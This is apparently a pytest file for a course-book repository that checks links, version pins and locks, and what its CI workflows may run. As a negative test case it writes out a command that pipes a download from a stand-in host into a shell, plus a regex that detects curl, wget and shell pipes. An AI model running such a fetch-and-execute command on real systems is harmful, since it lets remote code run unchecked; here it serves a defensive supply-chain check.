"""The repository agrees with itself: addresses, versions, pins, and what its workflows may do."""

import json
import re
import shutil
import subprocess
import tomllib
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name
from tools.book import Book

ROOT = Path(__file__).parents[2]
PROJECT = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))["project"]
WORKFLOWS = sorted((ROOT / ".github/workflows").glob("*.yml"))


def read(name):
    return (ROOT / name).read_text("utf-8")


# ---- a fork: whatever names the repository or the book agrees with _config.yml -------------------

_NAMED = re.compile(
    r"(?:https?://|git\+https://)"
    r"(?:github\.com/|raw\.githubusercontent\.com/|colab\.research\.google\.com/github/|mybinder\.org/v2/gh/)"
    r"([\w.-]+/[\w.-]+?)(?=[/@#?\"')\]\s>]|\.git|$)|https?://([\w-]+\.github\.io/[\w.-]*)"
)
OTHERS = {"actions/checkout"}  # repositories of others that are named


def address_faults(config, citation, texts):
    """List what names another repository, site, title or author than _config.yml does."""
    repository = urlsplit(config["repository"]["url"]).path.strip("/")
    site = urlsplit(config["html"]["baseurl"])
    faults = []
    owner, _, name = repository.partition("/")
    if site.netloc.endswith(".github.io") and (site.netloc, site.path.strip("/")) != (
        f"{owner}.github.io",
        name,
    ):
        faults.append(f"_config.yml: baseurl is {site.geturl()}, not https://{owner}.github.io/{name}/")
    wanted = {
        "repository-code": config["repository"]["url"],
        "url": config["html"]["baseurl"],
    }
    faults += [
        f"CITATION.cff: {key} is {citation.get(key)}" for key in wanted if citation.get(key) != wanted[key]
    ]
    authors = [author["name"] for author in citation["authors"]]
    if config["author"].lower() not in [author.lower() for author in authors]:
        faults.append(f"CITATION.cff: authors are {authors}, not {config['author']}")
    if not citation["title"].startswith(config["title"]):
        faults.append(f"CITATION.cff: title is {citation['title']!r}, without {config['title']!r}")
    own_site = f"{site.netloc}{site.path}".rstrip("/")
    for file, text in texts.items():
        for match in _NAMED.finditer(text):
            if match[1] and match[1].removesuffix(".git") not in {repository, *OTHERS}:
                faults.append(f"{file}: names {match[1]}")
            elif match[2] and match[2].rstrip("/") != own_site:
                faults.append(f"{file}: names {match[2]}")
    return list(dict.fromkeys(faults))


def texts():
    names = ["README.md", "CONTRIBUTING.md", "SECURITY.md", "CHANGELOG.md", "pyproject.toml", "_config.yml"]
    paths = [ROOT / name for name in names] + [
        *(ROOT / "book").glob("*.md"),
        ROOT / ".github" / "ISSUE_TEMPLATE" / "config.yml",
    ]
    found = {path.name: path.read_text("utf-8") for path in paths}
    for path in Book(ROOT).chapters():
        cells = json.loads(path.read_text("utf-8"))["cells"]
        found[path.name] = "\n".join("".join(cell["source"]) for cell in cells)
    return found


def test_addresses_agree_with_the_configuration():
    faults = address_faults(
        yaml.safe_load(read("_config.yml")), yaml.safe_load(read("CITATION.cff")), texts()
    )
    assert not faults, "\n".join([*faults, "README.md says what a fork changes"])


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("url: https://github.com/d2lconv/d2lconv", "url: https://github.com/ann/course"),
        ("baseurl: https://d2lconv.github.io/d2lconv/", "baseurl: https://ann.github.io/course/"),
        ("baseurl: https://d2lconv.github.io/d2lconv/", "baseurl: https://ann.example/"),
        ("author: the d2lconv authors", "author: Ann"),
        ("title: d2lconv", "title: Ann's course"),
    ],
)
def test_a_forgotten_address_is_seen(old, new):
    config = read("_config.yml")
    assert old in config
    assert address_faults(
        yaml.safe_load(config.replace(old, new)), yaml.safe_load(read("CITATION.cff")), texts()
    )


@pytest.mark.parametrize("name", ["README.md", "convolution.ipynb"])
def test_a_forgotten_link_is_seen(name):
    """Everything else was changed: one file alone still names the original."""
    change = ("d2lconv/d2lconv", "ann/course"), ("d2lconv.github.io/d2lconv", "ann.github.io/course")

    def moved(text):
        for old, new in reversed(change):
            text = text.replace(old, new)
        return text

    found = texts()
    config, citation = (yaml.safe_load(moved(read(file))) for file in ("_config.yml", "CITATION.cff"))
    fork = {file: moved(text) for file, text in found.items()}
    assert address_faults(config, citation, fork) == []
    assert all(
        fault.startswith(f"{name}: names")
        for fault in address_faults(config, citation, fork | {name: found[name]})
    )
    assert address_faults(config, citation, fork | {name: found[name]})


# ---- versions and pins ------------------------------------------------------------------------


def pins(text):
    """Return the pinned versions in a requirements file or lock, by name."""
    lines = re.findall(r"^([A-Za-z][^\\#\n]*)", text, re.MULTILINE)
    return {canonicalize_name(pin.name): str(pin.specifier) for pin in map(Requirement, lines)}


def test_versions_agree():
    version = PROJECT["version"]
    assert str(yaml.safe_load(read("CITATION.cff"))["version"]) == version
    released = re.findall(r"^## \[(\d[^\]]*)\]", read("CHANGELOG.md"), re.MULTILINE)
    assert released[:1] in ([], [version])


def test_every_dependency_is_pinned_and_locked():
    pinned = pins(read("requirements.txt"))
    extras = [text for extra in PROJECT["optional-dependencies"].values() for text in extra]
    for wanted in map(Requirement, [*PROJECT["dependencies"], *extras]):
        version = pinned[canonicalize_name(wanted.name)].removeprefix("==")
        assert wanted.specifier.contains(version, prereleases=True), (
            f"{wanted} is pinned to {version}; make requirements"
        )
    assert "\n-e .\n" in read("requirements.txt")
    del pinned["torch"]  # another file, so another hash, for each kind of machine
    assert pins(read("locks/course.txt")) == pinned, "run: make lock"


@pytest.mark.skipif(shutil.which("make") is None, reason="needs make")
def test_newer_versions_than_a_week_are_never_compiled():
    """Both targets, and the one that the first calls, keep the cooling-off period."""
    command = ["make", "--dry-run", "--no-print-directory", "requirements", "lock"]
    shown = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=True).stdout
    compiled = re.findall(r"uv pip compile [^|;>]*", shown.replace("\\\n", " "))
    assert len(compiled) >= 4
    assert all('--exclude-newer "7 days"' in call for call in compiled), shown


# ---- workflows do nothing that a reader can't repeat; for the rest see zizmor ------------------

RUN = re.compile(r"make [a-z ./]+(PINS=(locked|newest))?|\.venv/bin/python -m playwright install [a-z -]+")
FETCHED = re.compile(r"\b(curl|wget)\b|\|\s*(ba|z)?sh\b")
VALUES = {
    "PIP_EXTRA_INDEX_URL": "${{ vars.PIP_EXTRA_INDEX_URL }}",
    "GH_TOKEN": "${{ github.token }}",
    "GH_REPO": "${{ github.repository }}",
    "RUN": "${{ github.server_url }}/${{ github.repository }}/actions/runs/${{ github.run_id }}",
}
RUNNERS = {"ubuntu-latest", "${{ matrix.os }}"}


def workflow_faults(workflow):
    """List commands, settings and runners that are none of those known."""
    faults = []
    for name, job in workflow["jobs"].items():
        if job["runs-on"] not in RUNNERS or "container" in job or "services" in job:
            faults.append(f"{name}: runs elsewhere")
        for step in [workflow, job, *job["steps"]]:
            values = step.get("env", {})
            faults += [f"{name}: {key}: {values[key]}" for key in values if values[key] != VALUES.get(key)]
            run = step.get("run", "make").strip()
            known = run.startswith("gh label create ") if name == "report" else RUN.fullmatch(run)
            if run != "make" and (not known or FETCHED.search(run)):
                faults.append(f"{name}: {run}")
    return faults


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_workflows_run_make_targets_and_know_no_secrets(path):
    assert workflow_faults(yaml.safe_load(path.read_text("utf-8"))) == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("run: make test", "run: curl -sSf https://a.example/x | sh"),
        ("run: make test", "run: make test && make lint"),
        ("run: make test", "env:\n          KEY: ${{ secrets.KEY }}\n        run: make test"),
        ("run: make test", "env:\n          PIP_INDEX_URL: https://a.example/\n        run: make test"),
        ("PIP_EXTRA_INDEX_URL: ${{ vars.PIP_EXTRA_INDEX_URL }}", "PIP_EXTRA_INDEX_URL: https://a.example/"),
        ("runs-on: ${{ matrix.os }}", "runs-on: self-hosted"),
    ],
)
def test_workflow_faults(old, new):
    text = read(".github/workflows/ci.yml")
    assert workflow_faults(yaml.safe_load(text)) == []
    assert old in text
    assert workflow_faults(yaml.safe_load(text.replace(old, new, 1)))


def test_recipes_pipe_nothing_from_the_network_to_a_shell():
    assert not FETCHED.search(read("Makefile") + read(".ci/run"))
